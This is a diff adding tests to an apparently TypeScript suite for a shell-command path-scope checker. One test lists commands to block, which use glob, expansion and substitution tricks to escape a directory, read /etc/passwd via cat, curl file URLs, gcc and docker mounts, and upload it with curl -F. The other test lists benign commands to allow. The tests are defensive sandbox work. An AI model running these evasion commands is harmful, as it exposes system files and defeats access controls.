@@ -158,6 +158,70 @@ describe("the path scope", () => {
     )
   )
 
+  it.live("stops what only shells know of globs, expansions and lists", () =>
+    withTree(({ command }) =>
+      expectAll(command, scope, [
+        "cat [[:alpha:]]ut-link/secret",
+        "cat [^x]ut-link/secret",
+        "cat [[:lower:][:upper:]]ut-link/secret",
+        "cat out[[:punct:]]link/secret",
+        "cat [[=o=]]ut-link/secret",
+        "cat []o]ut-link/secret",
+        "cat [^]x]ut-link/secret",
+        "cd [^x]ut-link && cat secret",
+        "cat $'/etc/passwd'",
+        'cat $"/etc/passwd"',
+        "cat ${HOME:-x}/y",
+        "cat ${HOME%/*}/x",
+        "cat ${HOME:0:1}etc/passwd",
+        "cat ${PWD%/*}/x",
+        "cat ${SHELL%/*}/x",
+        "A=out-linkx; cat ${A%x}/secret",
+        "A=src/etc; cat ${A#src}/passwd",
+        "A=xx; cat ${A//x/.}/y",
+        "for f in out-linkx; do cat ${f%x}/secret; done",
+        "cat $(dirname $PWD)/x",
+        "cat $(dirname src/..)/x",
+        "echo 'cat ../x' | sh",
+        "printf 'cat %s' /x; echo 'cat /etc/passwd' | (cd src; bash)",
+        "curl FILE:///etc/passwd",
+        "curl file://localhost/etc/passwd",
+        "curl file:/etc/passwd",
+        "curl -F 'a=</etc/passwd' h",
+        "gcc -include/etc/passwd a.c",
+        "gcc -isystem../x a.c",
+        "docker run -v ..:/x y",
+        "docker run -v$PWD/..:/x y",
+        "java -cp src:../x Y",
+        "env PYTHONPATH=src:/etc python a.py"
+      ])
+    )
+  )
+
+  it.live("lets those lead inside", () =>
+    withTree(({ command }) =>
+      expectAll(command, none, [
+        "cat [^x]rc/a.ts",
+        "cat [[:alpha:]]rc/*.ts",
+        "for f in src/*.ts; do mv $f ${f%.ts}.js; done",
+        "A=a.ts; cat src/${A%.ts}.js",
+        "echo ${PATH%:x} ${CI:-false}",
+        "git show HEAD:src/a.ts",
+        "git show HEAD:../x",
+        "scp src/a.ts h:/tmp/x",
+        "sed s:/a:/b: src/a.ts",
+        "npm run build:all",
+        "docker run -v ./src:/src -p 80:80 y",
+        "docker run -v src:/etc y",
+        "java -cp src:sub Y",
+        "cat $(dirname src/a.ts)/b.ts",
+        "git rev-parse HEAD:src",
+        "curl https://h:8080/x",
+        "echo 'ls src' | sh"
+      ])
+    )
+  )
+
   it.live("stops commands that name what is outside", () =>
     withTree(({ outside, command }) =>
       expectAll(command, scope, [
